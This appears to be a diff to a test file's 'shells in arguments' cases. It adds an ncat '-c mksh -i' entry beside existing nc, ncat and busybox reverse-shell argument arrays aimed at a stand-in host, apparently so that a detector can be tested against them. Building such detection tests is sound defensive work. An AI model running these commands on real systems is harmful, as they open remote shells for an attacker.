@@ -86,6 +86,7 @@ describe("shells in arguments", () => {
     ["nc", "203.0.113.9", "4444", "-e", "/bin/sh"],
     ["ncat", "--ssl", "203.0.113.9", "443", "--sh-exec", "bash"],
     ["ncat", "203.0.113.9", "443", "-c", "/bin/bash"],
+    ["ncat", "203.0.113.9", "443", "-c", "mksh -i"],
     ["busybox", "nc", "203.0.113.9", "4444", "-e", "sh"],
     [
       "python3",
